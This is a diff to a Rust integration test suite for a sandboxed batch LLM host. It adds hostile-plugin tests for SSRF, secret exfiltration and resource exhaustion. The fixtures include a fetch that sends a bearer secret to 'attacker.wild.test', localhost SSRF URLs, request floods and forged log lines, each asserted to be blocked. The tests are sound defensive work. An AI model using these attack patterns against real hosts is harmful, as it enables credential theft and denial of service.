@@ -3,6 +3,9 @@
 //! binary on a batch mixing attacks with well-behaved items and asserts the
 //! result class, that no request reached a server it must not reach, that the
 //! batch completed, and that the host's peak RSS stayed bounded.
+//!
+//! `BATCHLLM_HOSTILE_BIN=/path/to/batchllm-host` runs the attacks against
+//! another build of the host (e.g. an older release, to see them succeed).
 
 use std::io::{Read as _, Write as _};
 use std::path::{Path, PathBuf};
@@ -48,6 +51,11 @@ pub(crate) fn plugins_dir() -> &'static Path {
     })
 }
 
+/// The host under attack: this build, or `BATCHLLM_HOSTILE_BIN`.
+fn host_bin() -> String {
+    std::env::var("BATCHLLM_HOSTILE_BIN").unwrap_or_else(|_| BIN.to_string())
+}
+
 fn hostile() -> String {
     let plugin = plugins_dir().join("batchllm_hostile.wasm").to_str().expect("utf-8 path").to_string();
     static WARM: OnceLock<()> = OnceLock::new();
@@ -64,7 +72,7 @@ fn warm(plugin: &str) {
     let dir = tempfile::tempdir().expect("tempdir");
     let jobs = dir.path().join("jobs.jsonl");
     std::fs::write(&jobs, job("warm", "ok") + "\n").expect("write jobs");
-    let out = Command::new(BIN)
+    let out = Command::new(host_bin())
         .arg(&jobs)
         .args(["--plugin", plugin, "--dry-run", "--cache-dir"])
         .arg(cache_dir())
@@ -139,7 +147,7 @@ async fn run_with_cache<S: AsRef<std::ffi::OsStr>>(
     let results = ws.path("results.jsonl");
     let _ = std::fs::remove_file(&results);
     let stderr_path = ws.path("stderr.txt");
-    let mut cmd = Command::new(BIN);
+    let mut cmd = Command::new(host_bin());
     cmd.arg(&jobs)
         .arg("--output")
         .arg(&results)
@@ -230,6 +238,11 @@ fn assert_oks_succeeded(run: &Run, n: usize) {
 /// - `/redirect?to=URL`: 302 to URL;
 /// - `/drip`: announces 1 MB, then sends one byte every 100 ms;
 /// - `/huge`: a 100 MiB body;
+/// - `/gzip-echo`: like `/echo`, gzip-compressed when the request accepts
+///   gzip (as servers do); `/gzip-always`: gzip-compressed regardless;
+/// - `/big?bytes=N`: N bytes;
+/// - `/slow?ms=N&status=S`: status S (with `retry-after: 30`) after N ms;
+/// - `/hangup?ms=N`: closes the connection without an answer after N ms;
 /// - anything else: 200 `{"ok":true}`.
 struct TestServer {
     port: u16,
@@ -305,6 +318,62 @@ async fn serve(mut socket: tokio::net::TcpStream, log: Arc<Mutex<Vec<String>>>) 
             body.len()
         )
     };
+    let query = |name: &str| -> u64 {
+        target
+            .split(['?', '&'])
+            .find_map(|kv| kv.strip_prefix(name).and_then(|v| v.strip_prefix('=')))
+            .and_then(|v| v.parse().ok())
+            .unwrap_or(0)
+    };
+    if target.starts_with("/gzip-") {
+        let accepts_gzip = head.lines().any(|l| {
+            let l = l.to_ascii_lowercase();
+            l.starts_with("accept-encoding:") && l.contains("gzip")
+        });
+        let mut encoder = flate2::write::GzEncoder::new(Vec::new(), flate2::Compression::default());
+        encoder.write_all(raw.as_bytes()).expect("gzip");
+        let (encoding, body) = if accepts_gzip || target.starts_with("/gzip-always") {
+            ("content-encoding: gzip\r\n", encoder.finish().expect("gzip"))
+        } else {
+            ("", raw.clone().into_bytes())
+        };
+        let head = format!(
+            "HTTP/1.1 200 OK\r\ncontent-type: text/plain\r\n{encoding}content-length: {}\r\nconnection: close\r\n\r\n",
+            body.len()
+        );
+        let _ = socket.write_all(head.as_bytes()).await;
+        let _ = socket.write_all(&body).await;
+        let _ = socket.shutdown().await;
+        return;
+    }
+    if target.starts_with("/big") {
+        let bytes = usize::try_from(query("bytes")).expect("size");
+        let head = format!("HTTP/1.1 200 OK\r\ncontent-length: {bytes}\r\nconnection: close\r\n\r\n");
+        let _ = socket.write_all(head.as_bytes()).await;
+        let chunk = vec![b'B'; 64 << 10];
+        let mut left = bytes;
+        while left > 0 {
+            let n = left.min(chunk.len());
+            if socket.write_all(&chunk[..n]).await.is_err() {
+                return;
+            }
+            left -= n;
+        }
+        let _ = socket.shutdown().await;
+        return;
+    }
+    if target.starts_with("/slow") || target.starts_with("/hangup") {
+        tokio::time::sleep(Duration::from_millis(query("ms"))).await;
+        if target.starts_with("/hangup") {
+            return;
+        }
+        let status = query("status");
+        let reply =
+            format!("HTTP/1.1 {status} X\r\nretry-after: 30\r\ncontent-length: 2\r\nconnection: close\r\n\r\n{{}}");
+        let _ = socket.write_all(reply.as_bytes()).await;
+        let _ = socket.shutdown().await;
+        return;
+    }
     let response = if target.starts_with("/echo") {
         let auth = head
             .lines()
@@ -513,9 +582,10 @@ async fn names_resolving_to_internal_addresses_need_an_explicit_grant() {
     let port = server.port;
     let lines = vec![
         // Granted by name without a port: `localhost` resolves to loopback, refused.
-        attack("by-name", "fetch", json!({"url": "http://localhost/echo"})),
-        // Granted exactly with its port: an explicit decision, allowed.
-        attack("explicit", "fetch", json!({"url": format!("http://localhost:{port}/echo")})),
+        attack("by-name", "fetch", json!({"url": "https://localhost/echo"})),
+        // Granted by name with its port: a port alone is no decision about
+        // internal addresses (34ee6db let this through unscreened).
+        attack("by-name-and-port", "fetch", json!({"url": format!("http://localhost:{port}/echo")})),
     ];
     let args = with_plugin(
         &plugin,
@@ -523,14 +593,38 @@ async fn names_resolving_to_internal_addresses_need_an_explicit_grant() {
     );
     let out = run(&ws, &lines, &args, &[], Duration::from_secs(60)).await;
     assert_eq!(out.code, 1, "{}", out.stderr);
-    assert_eq!(out.code_of("by-name"), "egress_denied", "{}", out.result("by-name"));
-    let message = out.message_of("by-name");
-    assert!(
-        message.contains("resolves only to blocked internal addresses") && message.contains("loopback"),
-        "{message}"
-    );
-    assert_eq!(out.output_of("explicit")["status"], 200, "{}", out.result("explicit"));
-    assert_eq!(server.requests().len(), 1, "only the explicitly granted request arrived");
+    for id in ["by-name", "by-name-and-port"] {
+        assert_eq!(out.code_of(id), "egress_denied", "{}", out.result(id));
+        let message = out.message_of(id);
+        assert!(
+            message.contains("resolves only to blocked internal addresses") && message.contains("loopback"),
+            "{message}"
+        );
+        assert!(message.contains("--allow-internal-host HOST[:PORT]"), "the hint names the internal grant: {message}");
+    }
+    assert!(server.requests().is_empty(), "nothing reached the loopback server");
+
+    // Internal reach has its own spelling, for that port only.
+    let lines = vec![
+        attack("internal", "fetch", json!({"url": format!("http://localhost:{port}/echo")})),
+        attack(
+            "other-port",
+            "fetch",
+            json!({"url": format!("http://localhost:{}/echo", port.wrapping_add(1)), "catch": true}),
+        ),
+    ];
+    let args = with_plugin(&plugin, &["--allow-internal-host", &format!("localhost:{port}"), "--max-attempts", "1"]);
+    let out = run(&ws, &lines, &args, &[], Duration::from_secs(60)).await;
+    assert_eq!(out.code, 0, "{}", out.stderr);
+    assert_eq!(out.output_of("internal")["status"], 200, "{}", out.result("internal"));
+    assert_eq!(out.output_of("other-port")["caught"], "caught denied");
+    assert_eq!(server.requests().len(), 1, "only the internal grant's request arrived");
+
+    // The hint for an ungranted public host is the screened bare name, not HOST:443.
+    let lines = vec![attack("hint", "fetch", json!({"url": "https://ungranted.example/v1", "catch": true}))];
+    let out = run(&ws, &lines, &with_plugin(&plugin, &[]), &[], Duration::from_secs(60)).await;
+    let message = out.output_of("hint")["message"].as_str().expect("message").to_string();
+    assert!(message.ends_with("(grant it with --allow-host ungranted.example)"), "{message}");
     assert!(out.max_rss_mib() < BASE_RSS_MIB, "host peak RSS {} MiB", out.max_rss_mib());
 }
 
@@ -622,7 +716,8 @@ async fn a_dripping_response_is_cut_by_the_attempt_deadline() {
     let mut lines = vec![
         // Asks for a 10-minute HTTP timeout; the host clamps it.
         attack("drip", "fetch", json!({"url": server.url("/drip"), "timeout_ms": 600_000})),
-        // Keeps calling the host after the deadline: the call's wall clock ends it.
+        // Keeps calling the host after the deadline: the call's wall clock
+        // ends it (its requests past the call's budget are denied meanwhile).
         attack("drip-hammer", "fetch", json!({"url": server.url("/drip"), "repeat_until_trap": true})),
     ];
     lines.extend(oks(3));
@@ -643,7 +738,8 @@ async fn a_dripping_response_is_cut_by_the_attempt_deadline() {
     assert_eq!(out.code, 1, "{}", out.stderr);
     assert_eq!(out.code_of("drip"), "timeout", "{}", out.result("drip"));
     assert!(out.message_of("drip").contains("caught timeout"), "{}", out.message_of("drip"));
-    assert_eq!(out.code_of("drip-hammer"), "plugin_timeout", "{}", out.result("drip-hammer"));
+    assert_eq!(out.code_of("drip-hammer"), "egress_denied", "{}", out.result("drip-hammer"));
+    assert!(out.message_of("drip-hammer").starts_with("call did not finish within"), "{}", out.result("drip-hammer"));
     assert_oks_succeeded(&out, 3);
     for id in ["drip", "drip-hammer"] {
         let latency = out.result(id)["batchllm"]["latency_ms"].as_f64().expect("latency");
@@ -815,4 +911,376 @@ async fn request_and_response_bodies_are_bounded() {
     // host buffers at most 32 MiB of a response.
     let bound = BASE_RSS_MIB + 80 + 32;
     assert!(out.max_rss_mib() < bound, "host peak RSS {} MiB >= {bound} MiB", out.max_rss_mib());
+}
+
+// ---------------------------------------------------------------------------
+// Round two (issue 13): each attack below got through 34ee6db.
+
+const KEY: &str = "sk-hostile-round-two-7c4e19a0";
+
+fn wasi_http_plugin() -> String {
+    let plugin = plugins_dir().join("batchllm_hostile_wasi_http.wasm").to_str().expect("utf-8").to_string();
+    static WARM: OnceLock<()> = OnceLock::new();
+    WARM.get_or_init(|| warm(&plugin));
+    plugin
+}
+
+/// Peak RSS a run may reach: twice what the same run took with a
+/// well-behaved plugin, plus what the configured per-instance limits let
+/// each instance hold (`per_instance_mib`, times `instances`).
+fn rss_bound(baseline: &Run, instances: i64, per_instance_mib: i64) -> i64 {
+    2 * baseline.max_rss_mib() + instances * per_instance_mib
+}
+
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn a_secret_does_not_come_back_through_a_content_encoding() {
+    let ws = Workspace::new();
+    let plugin = hostile();
+    let server = TestServer::start().await;
+    let headers = json!([["authorization", "Bearer {{secret:api-key}}"], ["accept-encoding", "gzip"]]);
+    let lines = vec![
+        // The server compresses because the plugin asked for it.
+        attack("asked", "fetch", json!({"url": server.url("/gzip-echo"), "headers": headers, "gunzip": true})),
+        // The server compresses whatever it was asked.
+        attack("forced", "fetch", json!({"url": server.url("/gzip-always"), "headers": headers, "gunzip": true})),
+    ];
+    let args = with_plugin(
+        &plugin,
+        &[
+            "--allow-host",
+            &server.authority(),
+            "--secret",
+            "api-key=env:HOSTILE_KEY",
+            "--max-attempts",
+            "1",
+            "--events",
+            ws.path("events.jsonl").to_str().expect("utf-8"),
+        ],
+    );
+    let out = run(&ws, &lines, &args, &[("HOSTILE_KEY", KEY)], Duration::from_secs(60)).await;
+    let results = std::fs::read_to_string(ws.path("results.jsonl")).expect("results");
+    assert!(!results.contains(KEY) && !out.stderr.contains(KEY), "the key came back:\n{results}");
+    assert_eq!(out.code, 0, "{}", out.stderr);
+    // The host asked for identity, so the echo came back plain and scrubbed.
+    let asked = out.output_of("asked");
+    assert_eq!(asked["gunzipped"], false, "{asked}");
+    let body = asked["body"].as_str().expect("body");
+    assert!(body.contains("Bearer [secret:api-key]") && body.contains("accept-encoding: identity"), "{body}");
+    // Compressed anyway: withheld.
+    let forced = out.output_of("forced");
+    assert!(forced["body"].as_str().expect("body").starts_with("[response withheld"), "{forced}");
+    let sent = server.requests();
+    assert_eq!(sent.len(), 2);
+    assert!(sent.iter().all(|r| r.contains(KEY) && r.contains("accept-encoding: identity\r\n")), "{sent:?}");
+    assert!(sent.iter().all(|r| !r.contains("accept-encoding: gzip")), "{sent:?}");
+}
+
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn files_holding_prompts_and_outputs_are_private() {
+    use std::os::unix::fs::PermissionsExt;
+    let ws = Workspace::new();
+    let plugin = hostile();
+    let events = ws.path("events.jsonl");
+    let args = with_plugin(&plugin, &["--events", events.to_str().expect("utf-8")]);
+    // SAFETY: umask only sets this process's file-creation mask (inherited
+    // by the child); 022 is the usual default, made explicit.
+    unsafe { libc::umask(0o022) };
+    let out = run(&ws, &oks(2), &args, &[], Duration::from_secs(60)).await;
+    assert_eq!(out.code, 0, "{}", out.stderr);
+    for file in [ws.path("results.jsonl"), events] {
+        let mode = std::fs::metadata(&file).expect("exists").permissions().mode() & 0o777;
+        assert_eq!(mode, 0o600, "{} is {mode:o}", file.display());
+    }
+}
+
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn run_state_is_bounded() {
+    let ws = Workspace::new();
+    let plugin = hostile();
+    let common = ["--max-memory-mb", "64", "--max-attempts", "1", "--concurrency", "4"];
+    let args = with_plugin(&plugin, &common);
+    // The baseline uses the run state too, within every limit.
+    let mut lines = oks(8);
+    lines.push(attack("modest", "run-state", json!({"value_bytes": 1000, "keys": 10, "prefix": "ok"})));
+    let baseline = run(&ws, &lines, &args, &[], Duration::from_secs(60)).await;
+    assert_eq!(baseline.code, 0, "{}", baseline.stderr);
+    assert_eq!(baseline.result("modest")["batchllm"]["output"], "stored 10 values of 1000 bytes");
+    let mib = 1u64 << 20;
+    let mut lines: Vec<String> = (0..4)
+        .map(|i| {
+            // 64 values of 16 MiB each: 1 GiB per item, 4 GiB in all.
+            attack(
+                &format!("huge-{i}"),
+                "run-state",
+                json!({"value_bytes": 16 * mib, "keys": 64, "prefix": format!("h{i}")}),
+            )
+        })
+        .collect();
+    // Under the value limit, over the total: 64 x 1 MiB.
+    lines.push(attack("many-values", "run-state", json!({"value_bytes": mib - 64, "keys": 64, "prefix": "m"})));
+    lines.extend(oks(4));
+    let out = run(&ws, &lines, &args, &[], Duration::from_secs(120)).await;
+    assert_eq!(out.code, 1, "{}", out.stderr);
+    for i in 0..4 {
+        let id = format!("huge-{i}");
+        assert_eq!(out.code_of(&id), "plugin_output_too_large", "{}", out.result(&id));
+        assert!(out.message_of(&id).contains("more than 1048576 bytes per value"), "{}", out.message_of(&id));
+    }
+    assert!(out.message_of("many-values").contains("run state over its limit"), "{}", out.result("many-values"));
+    assert_oks_succeeded(&out, 4);
+    let attack_rss = out.max_rss_mib();
+    // Tiny values, too many keys (a run of its own: the state is run-wide).
+    let lines = vec![attack("many-keys", "run-state", json!({"value_bytes": 1, "keys": 100_000, "prefix": "k"}))];
+    let out = run(&ws, &lines, &args, &[], Duration::from_secs(60)).await;
+    assert!(out.message_of("many-keys").contains("1025 keys, more than 1024"), "{}", out.result("many-keys"));
+    // Each instance may hold its 64 MiB of linear memory and pass the host
+    // up to 64 MiB in one call.
+    let bound = rss_bound(&baseline, 4, 64 + 64);
+    eprintln!("run state: baseline {} MiB, attack {attack_rss} MiB, bound {bound} MiB", baseline.max_rss_mib());
+    assert!(attack_rss < bound, "host peak RSS {attack_rss} MiB >= {bound} MiB");
+}
+
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn retry_state_is_bounded() {
+    let ws = Workspace::new();
+    let plugin = hostile();
+    let common = ["--max-memory-mb", "128", "--max-attempts", "12", "--concurrency", "4"];
+    let args = with_plugin(&plugin, &common);
+    let baseline = run(&ws, &oks(8), &args, &[], Duration::from_secs(60)).await;
+    assert_eq!(baseline.code, 0, "{}", baseline.stderr);
+    let mib = 1u64 << 20;
+    // Two 16 MiB values per on-error call, eleven calls, four items at once.
+    let mut lines: Vec<String> = (0..4)
+        .map(|i| attack(&format!("grow-{i}"), "retry-state", json!({"value_bytes": 16 * mib, "keys_per_call": 2})))
+        .collect();
+    // 100 KiB per call: fits ten times, then the 1 MiB total is reached.
+    lines.push(attack("steady", "retry-state", json!({"value_bytes": 100 << 10, "keys_per_call": 1})));
+    lines.extend(oks(4));
+    let out = run(&ws, &lines, &args, &[], Duration::from_secs(180)).await;
+    assert_eq!(out.code, 1, "{}", out.stderr);
+    for i in 0..4 {
+        let id = format!("grow-{i}");
+        assert_eq!(out.code_of(&id), "invalid_response", "{}", out.result(&id));
+        assert_eq!(out.result(&id)["batchllm"]["attempts"], 12);
+        // Every change was refused whole: the last attempt saw no state.
+        assert_eq!(out.message_of(&id), "retry state given: 0 keys, 0 bytes");
+    }
+    let steady = out.message_of("steady");
+    let keys: usize = steady.split(' ').nth(3).and_then(|n| n.parse().ok()).expect("key count");
+    assert_eq!(keys, 10, "{steady}");
+    assert!(out.stderr.contains("retry state over its limit"), "the refusal is logged:\n{}", out.stderr);
+    assert_oks_succeeded(&out, 4);
+    let bound = rss_bound(&baseline, 4, 128 + 64);
+    eprintln!(
+        "retry state: baseline {} MiB, attack {} MiB, bound {bound} MiB",
+        baseline.max_rss_mib(),
+        out.max_rss_mib()
+    );
+    assert!(out.max_rss_mib() < bound, "host peak RSS {} MiB >= {bound} MiB", out.max_rss_mib());
+}
+
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn one_call_cannot_hold_thousands_of_requests_or_their_bodies() {
+    let ws = Workspace::new();
+    let plugin = wasi_http_plugin();
+    let server = TestServer::start().await;
+    let flood = |id: &str, path: &str, count: u64| {
+        attack(id, "flood", json!({"authority": server.authority(), "path": path, "count": count}))
+    };
+    let common = ["--allow-host", &server.authority(), "--max-memory-mb", "64", "--max-attempts", "1", "-j", "1"];
+    let args = with_plugin(&plugin, &common);
+    let eight_mib = format!("/big?bytes={}", 8 << 20);
+    let baseline = run(&ws, &[flood("one", &eight_mib, 1)], &args, &[], Duration::from_secs(60)).await;
+    assert_eq!(baseline.code, 0, "{}", baseline.stderr);
+    assert_eq!(baseline.output_of("one")["ok"], 1, "{}", baseline.result("one"));
+    let before = server.requests().len();
+
+    let lines = vec![flood("many", "/x", 2000), flood("big", &eight_mib, 300)];
+    let out = run(&ws, &lines, &args, &[], Duration::from_secs(120)).await;
+    let reached = server.requests().len() - before;
+    assert!(reached <= 2 * 16, "{reached} requests reached the server from two calls");
+    assert_eq!(out.code, 0, "{}", out.stderr);
+    let many = out.output_of("many");
+    assert_eq!(many["ok"], 16, "{many}");
+    assert_eq!(many["errors"]["ErrorCode::HttpRequestDenied"], 2000 - 16, "{many}");
+    // At most 64 MiB of responses are held for the instance: 7 of 8 MiB
+    // (with their headers), the rest refused as too large.
+    let big = out.output_of("big");
+    let held = big["ok"].as_u64().expect("ok");
+    assert!((1..=8).contains(&held), "{big}");
+    assert_eq!(big["errors"]["ErrorCode::HttpRequestDenied"], 300 - 16, "{big}");
+    // Linear memory (64 MiB), responses held (64 MiB) and one call's data (64 MiB).
+    let bound = rss_bound(&baseline, 1, 64 + 64 + 64);
+    eprintln!(
+        "wasi:http flood: baseline {} MiB, attack {} MiB, bound {bound} MiB",
+        baseline.max_rss_mib(),
+        out.max_rss_mib()
+    );
+    assert!(out.max_rss_mib() < bound, "host peak RSS {} MiB >= {bound} MiB", out.max_rss_mib());
+}
+
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn http_send_has_the_same_per_call_budget() {
+    let ws = Workspace::new();
+    let plugin = hostile();
+    let server = TestServer::start().await;
+    let lines = [
+        attack("many", "fetch", json!({"url": server.url("/x"), "times": 2000, "catch": true})),
+        attack("raised", "fetch", json!({"url": server.url("/x"), "times": 20})),
+    ];
+    let args = with_plugin(&plugin, &["--allow-host", &server.authority(), "--max-attempts", "1", "-j", "1"]);
+    let out = run(&ws, &lines[..1], &args, &[], Duration::from_secs(60)).await;
+    assert_eq!(out.output_of("many")["caught"], "caught denied", "{}", out.result("many"));
+    assert!(out.output_of("many")["message"].as_str().expect("message").contains("already made 16 requests"));
+    assert_eq!(server.requests().len(), 16, "the budget reached the server, no more");
+    let mut raised = args.clone();
+    raised.extend(["--max-requests-per-call".to_string(), "20".to_string()]);
+    let out = run(&ws, &lines[1..], &raised, &[], Duration::from_secs(60)).await;
+    assert_eq!(out.output_of("raised")["status"], 200, "{}", out.result("raised"));
+    assert_eq!(server.requests().len(), 16 + 20);
+}
+
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn a_wasi_http_request_does_not_outlive_its_call() {
+    let ws = Workspace::new();
+    let plugin = wasi_http_plugin();
+    let server = TestServer::start().await;
+    let lines = vec![
+        // Starts a request answered 429 after 300 ms, and returns at once.
+        attack("leak", "leak", json!({"authority": server.authority(), "path": "/slow?ms=300&status=429", "count": 1})),
+        // The next item on the same instance: its own request fails without
+        // an answer after 1 s. The leaked 429 must not become its answer.
+        attack("victim", "post", json!({"authority": server.authority(), "path": "/hangup?ms=1000", "body_bytes": 0})),
+    ];
+    let args = with_plugin(
+        &plugin,
+        &["--allow-host", &server.authority(), "--max-attempts", "1", "--max-rate-limit-retries", "0", "-j", "1"],
+    );
+    let out = run(&ws, &lines, &args, &[], Duration::from_secs(60)).await;
+    assert_eq!(out.code_of("leak"), "succeeded", "{}", out.result("leak"));
+    assert_eq!(out.code_of("victim"), "client_error", "{}", out.result("victim"));
+    assert_eq!(out.result("victim")["batchllm"]["http_status"], Value::Null, "{}", out.result("victim"));
+    assert_eq!(out.result("victim")["batchllm"]["rate_limit_retries"], 0);
+}
+
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn grants_name_their_scheme_and_secrets_stay_off_plain_http() {
+    let ws = Workspace::new();
+    let plugin = hostile();
+    let bearer = json!([["authorization", "Bearer {{secret:api-key}}"]]);
+    let lines = vec![
+        // A bare grant is https on 443, not http on 80.
+        attack("plain-80", "fetch", json!({"url": "http://127.0.0.1/x", "catch": true})),
+        // Granted with its port, restricted for the secret too: still no
+        // key in clear text to an address off this machine.
+        attack("clear-text", "fetch", json!({"url": "http://192.0.2.1:8080/x", "headers": bearer, "catch": true})),
+    ];
+    let args = with_plugin(
+        &plugin,
+        &[
+            "--allow-host",
+            "127.0.0.1",
+            "--allow-host",
+            "192.0.2.1:8080",
+            "--secret",
+            "api-key=env:HOSTILE_KEY",
+            "--secret-host",
+            "api-key=192.0.2.1:8080",
+            "--attempt-timeout",
+            "3",
+            "--max-attempts",
+            "1",
+        ],
+    );
+    let out = run(&ws, &lines, &args, &[("HOSTILE_KEY", KEY)], Duration::from_secs(60)).await;
+    assert_eq!(out.code, 0, "{}", out.stderr);
+    let plain = out.output_of("plain-80");
+    assert_eq!(plain["caught"], "caught denied", "{plain}");
+    assert!(plain["message"].as_str().expect("message").contains("--allow-host http://127.0.0.1"), "{plain}");
+    let clear = out.output_of("clear-text");
+    assert_eq!(clear["caught"], "caught denied", "{clear}");
+    assert!(clear["message"].as_str().expect("message").contains("would travel in clear text"), "{clear}");
+
+    // The built-in plugins' default grants are https only.
+    let jobs = vec![job("a", "hi")];
+    let args = ["--plugin", "openai", "--plugin-config", "base_url=http://api.openai.com/v1", "--max-attempts", "1"];
+    let out = run(&ws, &jobs, &args, &[], Duration::from_secs(60)).await;
+    assert_eq!(out.code_of("a"), "egress_denied", "{}", out.result("a"));
+    assert!(out.message_of("a").contains("not granted to this plugin for http"), "{}", out.message_of("a"));
+}
+
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn a_secret_reaches_a_wildcard_grant_only_when_named_for_it() {
+    let ws = Workspace::new();
+    let plugin = hostile();
+    let bearer = json!([["authorization", "Bearer {{secret:api-key}}"]]);
+    let lines = vec![attack(
+        "bucket",
+        "fetch",
+        json!({"url": "https://attacker.wild.test/x", "headers": bearer, "catch": true}),
+    )];
+    let base = ["--allow-host", "*.wild.test", "--secret", "api-key=env:HOSTILE_KEY", "--max-attempts", "1"];
+    let out = run(&ws, &lines, &with_plugin(&plugin, &base), &[("HOSTILE_KEY", KEY)], Duration::from_secs(60)).await;
+    let caught = out.output_of("bucket");
+    assert_eq!(caught["caught"], "caught denied", "{caught}");
+    assert!(caught["message"].as_str().expect("message").contains("granted only by the wildcard `*.wild.test`"));
+    // Named for it: the secret is substituted (the name then fails to resolve).
+    let mut named = base.to_vec();
+    named.extend(["--secret-host", "api-key=*.wild.test"]);
+    let out = run(&ws, &lines, &with_plugin(&plugin, &named), &[("HOSTILE_KEY", KEY)], Duration::from_secs(60)).await;
+    assert_ne!(out.output_of("bucket")["caught"], "caught denied", "{}", out.result("bucket"));
+}
+
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn a_file_named_like_a_built_in_does_not_replace_it() {
+    let ws = Workspace::new();
+    let impostor = ws.path("openai");
+    std::fs::copy(hostile(), &impostor).expect("copy");
+    let jobs = ws.jobs(&[job("a", "ok")]);
+    let run_in_ws = |plugin: &str| {
+        let out = Command::new(host_bin())
+            .current_dir(ws.dir.path())
+            .args(["jobs.jsonl", "--overwrite", "--mock-provider", "--plugin", plugin, "--cache-dir"])
+            .arg(cache_dir())
+            .env_remove("RUST_LOG")
+            .env("NO_COLOR", "1")
+            .stdin(Stdio::null())
+            .output()
+            .expect("runs");
+        let results = std::fs::read_to_string(ws.path("results.jsonl")).unwrap_or_default();
+        (String::from_utf8_lossy(&out.stderr).to_string(), results)
+    };
+    assert!(jobs.exists());
+    let (stderr, results) = run_in_ws("openai");
+    assert!(!results.contains("\"ok a\""), "the file in the working directory ran:\n{results}");
+    let line =
+        stderr.lines().find(|l| l.contains("plugin loaded")).unwrap_or_else(|| panic!("no load line:\n{stderr}"));
+    assert!(line.contains("plugin=openai") && line.contains("builtin=true") && line.contains("sha256="), "{line}");
+    // With a path, the file is what runs, and the log says so.
+    let (stderr, results) = run_in_ws("./openai");
+    assert!(results.contains("\"ok a\""), "{results}\n{stderr}");
+    let digest = {
+        use sha2::Digest as _;
+        hex::encode(sha2::Sha256::digest(std::fs::read(&impostor).expect("read")))
+    };
+    assert!(stderr.contains("builtin=false") && stderr.contains(&digest), "{stderr}");
+}
+
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn plugins_cannot_forge_log_lines() {
+    let ws = Workspace::new();
+    let plugin = hostile();
+    let out = run(&ws, &[job("forger", "log-forge")], &with_plugin(&plugin, &[]), &[], Duration::from_secs(60)).await;
+    assert_eq!(out.code, 0, "{}", out.stderr);
+    for line in out.stderr.lines() {
+        assert!(!line.starts_with("2099-01-01"), "a forged line reached the log:\n{}", out.stderr);
+    }
+    assert!(!out.stderr.contains('\r') && !out.stderr.contains('\u{1b}'), "raw control characters: {:?}", out.stderr);
+    assert!(!out.stderr.contains('\u{2028}') && !out.stderr.contains('\u{202e}'), "{:?}", out.stderr);
+    for tag in ["hostile-forge forger", "hostile-forge-stdout forger", "hostile-forge-stderr forger"] {
+        let line =
+            out.stderr.lines().find(|l| l.contains(tag)).unwrap_or_else(|| panic!("{tag} missing:\n{}", out.stderr));
+        assert!(line.contains("FORGED-LINE"), "the forged text stays on the plugin's own, tagged line: {line}");
+        assert!(line.contains("item=forger"), "{line}");
+    }
 }
